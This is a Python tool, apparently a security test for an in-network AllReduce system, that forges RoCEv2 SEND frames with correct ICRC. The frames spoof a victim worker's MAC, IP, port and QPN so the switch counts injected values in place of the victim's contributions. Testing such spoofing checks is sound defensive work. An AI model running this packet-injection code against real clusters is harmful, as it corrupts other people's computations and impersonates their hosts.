#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Sends forged RoCEv2 SENDs (docs/ROCE.md, docs/PROTOCOLS.md §3) out of a host that is
no worker, into the leaf switch a worker hangs below, for a given time.
Every frame carries a correct ICRC (scapy's RoCE layer), so it gets past
the ICRC check to the connection check. Kinds, round robin:
  own-mac: the host's own MAC with the victim's IP, UDP source port and
           connection QPN;
  full:    the victim's MAC, IP, port and QPN (only the switch port it
           arrives on gives it away);
  random:  the host's own addresses, a random BTH and payload to UDP 4791.
The SENDs are AllReduce SUM int32 contributions of large values at PSNs
spread over the victim's first 4 x slots messages or, with --in-order, each
kind walking the victim's first `slots` PSNs in order, which is exactly what
a freshly installed job expects next: a switch that took any of them would
count it in place of the victim's own contribution. Prints the counts as
JSON.
Run with Debian's python3 (/usr/bin/python3), which has python3-scapy."""
import argparse
import json
import os
import random
import socket
import struct
import time

from scapy.all import IP, UDP, Ether, Raw  # noqa: E402
from scapy.contrib.roce import BTH  # noqa: E402

ROCE_PORT = 4791
SEND_ONLY_IMM = 0x05
PSN_MASK = (1 << 24) - 1
# roce_imm_make(ROCE_IMM_ALL_RANKS, ALLREDUCE, SUM, INT32)
IMM_ALLREDUCE_SUM_INT32 = (0xFFFF << 16) | (0 << 14) | (1 << 12) | (0 << 8)


def send(src_mac, dst_mac, src_ip, dst_ip, sport, qpn, psn, elems):
    vals = [random.randrange(1 << 30) for _ in range(elems)]
    payload = struct.pack(">I", IMM_ALLREDUCE_SUM_INT32) + struct.pack(">%dI" % elems, *vals)
    return bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src_ip, dst=dst_ip, flags="DF") /
                 UDP(sport=sport, dport=ROCE_PORT) /
                 BTH(opcode=SEND_ONLY_IMM, dqpn=qpn, psn=psn & PSN_MASK, pkey=0xFFFF) / Raw(payload))


def garbage(src_mac, dst_mac, src_ip, dst_ip):
    body = os.urandom(random.randrange(0, 600))
    return bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src_ip, dst=dst_ip) /
                 UDP(sport=random.randrange(49152, 65536), dport=ROCE_PORT) / Raw(body))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--own-mac", required=True)
    ap.add_argument("--own-ip", required=True)
    ap.add_argument("--switch-mac", required=True, help="the leaf's port towards this host")
    ap.add_argument("--switch-ip", required=True)
    ap.add_argument("--victim-mac", required=True)
    ap.add_argument("--victim-ip", required=True)
    ap.add_argument("--victim-sport", type=int, required=True)
    ap.add_argument("--qpn", type=int, required=True, help="the leaf's QPN of the victim's connection")
    ap.add_argument("--up-base", type=int, required=True, help="PSN of the victim's idx 0")
    ap.add_argument("--slots", type=int, default=256)
    ap.add_argument("--elems", type=int, default=512)
    ap.add_argument("--seconds", type=float, default=3)
    ap.add_argument("--in-order", action="store_true",
                    help="each kind sends the victim's PSNs from its idx 0 in order (cycling)")
    args = ap.parse_args()

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.iface, 0))
    sent = {"own-mac": 0, "full": 0, "random": 0}
    kinds = ("own-mac", "full", "random")
    end = time.monotonic() + args.seconds
    i = 0
    while time.monotonic() < end:
        kind = kinds[i % 3]
        if args.in_order:
            psn = args.up_base + sent[kind] % args.slots
        else:
            psn = args.up_base + random.randrange(4 * args.slots)
        if kind == "own-mac":
            f = send(args.own_mac, args.switch_mac, args.victim_ip, args.switch_ip, args.victim_sport,
                     args.qpn, psn, args.elems)
        elif kind == "full":
            f = send(args.victim_mac, args.switch_mac, args.victim_ip, args.switch_ip, args.victim_sport,
                     args.qpn, psn, args.elems)
        else:
            f = garbage(args.own_mac, args.switch_mac, args.own_ip, args.switch_ip)
        s.send(f)
        sent[kind] += 1
        i += 1
    print(json.dumps(sent))


if __name__ == "__main__":
    main()
